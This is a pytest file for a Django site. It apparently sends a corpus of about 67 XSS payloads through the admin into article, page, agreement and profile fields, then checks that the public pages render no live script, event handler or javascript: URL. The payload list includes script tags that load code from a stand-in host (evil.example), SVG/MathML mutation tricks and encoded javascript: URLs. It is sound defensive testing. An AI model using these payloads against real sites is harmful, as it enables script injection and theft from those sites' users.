"""
Scripts typed into the admin never run on the public site: a corpus of XSS
payloads goes through the admin into rich text (article body, page body,
agreement summary, the unit's introduction) and plain text (titles, names,
summaries), and the public pages that show them carry no executable script,
no event handler attribute and no `javascript:` URL.
"""

from html.parser import HTMLParser

import pytest

from international.models import Agreement, UnitProfile
from nada_site.models import Page
from nada_site.translated_admin import edit_token
from news.models import Article
from tests.conftest import make_partner
from tests.news.conftest import make_category

pytestmark = pytest.mark.django_db

PAYLOADS = [
    # Script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/xss src=https://evil.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'--></style></script><script>alert(1)</script>",
    '<script type="text/javascript">alert(1)</script>',
    '<script type="application/ld+json">{"@context":"x"}</script><script>alert(1)</script>',
    # Event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" alt="a">',
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x oNeRrOr=alert`1`>",
    "<body onload=alert(1)>",
    '<p onclick="alert(1)">click</p>',
    '<a href="/" onmouseover="alert(1)">hover</a>',
    "<div onfocus=alert(1) tabindex=0 autofocus>x</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<img src=x:alert(1) onerror=eval(src)>",
    '<img/src="x"/onerror=alert(1)>',
    "<img src=x onerror\t=alert(1)>",
    # javascript: and other dangerous URLs
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="javascript:alert(1)">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>"></use></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    # CSS
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<link rel="stylesheet" href="javascript:alert(1)">',
    "<style>@import 'https://evil.example/x.css';</style>",
    # Broken and nested markup
    '<img src="x" alt=""" onerror="alert(1)">',
    '<p title="</p><img src=x onerror=alert(1)>">x</p>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<a href="/"><img src=x onerror=alert(1)//',
    '<table><td background="javascript:alert(1)">x</td></table>',
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<template><script>alert(1)</script></template>",
    "\"'><img src=x onerror=alert(1)>",
    "{{ 7|add:7 }}{% csrf_token %}<script>alert(1)</script>",
]

URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "background",
    "poster",
}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:text/html")
SITE_SCRIPT_PREFIX = "/static/"


class LiveCodeFinder(HTMLParser):
    """Collects what a browser would run: scripts, event handlers, script URLs."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.alive = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script":
            if attributes.get("type") == "application/ld+json":
                pass
            elif not (attributes.get("src") or "").startswith(SITE_SCRIPT_PREFIX):
                self.alive.append(f"<script {attrs}>")
        if tag in {"iframe", "object", "embed", "base", "style", "svg", "math", "link"}:
            if (
                tag != "link"
                or attributes.get("rel") not in {"stylesheet", "icon"}
                or not (attributes.get("href") or "").startswith(SITE_SCRIPT_PREFIX)
            ):
                if not (tag == "link" and attributes.get("rel") in {"alternate", "canonical"}):
                    self.alive.append(f"<{tag} {attrs}>")
        if tag == "meta" and (attributes.get("http-equiv") or "").lower() == "refresh":
            self.alive.append(f"<meta {attrs}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.alive.append(f"<{tag} {name}={value!r}>")
            if name == "style":
                self.alive.append(f"<{tag} style={value!r}>")
            if name in URL_ATTRIBUTES and value:
                squeezed = "".join(ch for ch in value if ch > " ").lower()
                if squeezed.startswith(DANGEROUS_SCHEMES):
                    self.alive.append(f"<{tag} {name}={value!r}>")

    handle_startendtag = handle_starttag


def live_code(html):
    finder = LiveCodeFinder()
    finder.feed(html)
    finder.close()
    return finder.alive


@pytest.fixture
def staff(staff_client, profile):
    return staff_client


@pytest.fixture
def related(db):
    """What an article and an agreement must point to."""
    return {"category": make_category().pk, "partner": make_partner("asean").pk}


def post_everywhere(client, payload, profile, related):
    """The payload through the admin into every kind of content, in rich and plain text."""
    title = payload[:180]
    responses = [
        client.post(
            "/admin/news/article/add/",
            {
                "title_ms": title,
                "slug": "serangan",
                "summary_ms": payload,
                "body_ms": payload,
                "key_points_heading_ms": title,
                "source_name_ms": title,
                "status": "published",
                "published_at_0": "2024-05-03",
                "published_at_1": "15:00:00",
                "category": related["category"],
                "key_points-TOTAL_FORMS": "1",
                "key_points-INITIAL_FORMS": "0",
                "key_points-0-text_ms": title,
                "key_points-0-order": "1",
            },
        ),
        client.post(
            "/admin/nada_site/page/add/",
            {
                "title_ms": title,
                "slug": "serangan",
                "body_ms": payload,
                "show_in_menu": "on",
                "show_in_footer": "on",
                "order": "1",
                "status": "published",
                "published_at_0": "2024-05-03",
                "published_at_1": "15:00:00",
                "questions-TOTAL_FORMS": "1",
                "questions-INITIAL_FORMS": "0",
                "questions-0-question_ms": title,
                "questions-0-answer_ms": payload,
                "questions-0-order": "1",
            },
        ),
        client.post(
            "/admin/international/agreement/add/",
            {
                "title_ms": title,
                "slug": "serangan",
                "summary_ms": payload,
                "partners": [related["partner"]],
                "kind": "regional",
                "instrument": "programme",
                "standing": "active",
                "status": "published",
                "published_at_0": "2024-05-03",
                "published_at_1": "15:00:00",
            },
        ),
    ]
    profile.refresh_from_db()
    data = {
        "name_ms": title,
        "introduction_ms": payload,
        "address_ms": payload,
        "status": "published",
        "edit_token": edit_token(profile),
        "objective_items-TOTAL_FORMS": "1",
        "objective_items-INITIAL_FORMS": "0",
        "objective_items-0-text_ms": title,
        "objective_items-0-order": "1",
        "objective_items-0-is_visible": "on",
        "approach_items-TOTAL_FORMS": "0",
        "approach_items-INITIAL_FORMS": "0",
    }
    responses.append(client.post(f"/admin/international/unitprofile/{profile.pk}/change/", data))
    return responses


PUBLIC_PAGES = [
    "/ms/",
    "/ms/news/",
    "/ms/news/serangan/",
    "/ms/pages/serangan/",
    "/ms/sitemap/",
    "/ms/international/",
    "/ms/international/cooperation/",
    "/ms/international/cooperation/serangan/",
]


def test_the_corpus_is_large_enough():
    assert len(PAYLOADS) >= 50


def test_the_public_pages_carry_no_live_code_of_their_own(staff, profile, related):
    responses = post_everywhere(staff, "<p>Teks biasa.</p>", profile, related)
    assert [response.status_code for response in responses] == [302] * 4
    for url in PUBLIC_PAGES:
        response = staff.get(url)
        assert response.status_code == 200, url
        assert live_code(response.content.decode()) == [], url


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_typed_in_the_admin_is_dead_on_the_public_pages(staff, profile, related, payload):
    responses = post_everywhere(staff, payload, profile, related)
    assert [response.status_code for response in responses] == [302] * 4
    assert Article.objects.filter(slug="serangan").exists()
    assert Page.objects.filter(slug="serangan").exists()
    assert Agreement.objects.filter(slug="serangan").exists()
    assert UnitProfile.objects.get().name_ms == payload[:180]
    for url in PUBLIC_PAGES:
        response = staff.get(url)
        assert response.status_code == 200, url
        assert live_code(response.content.decode()) == [], url
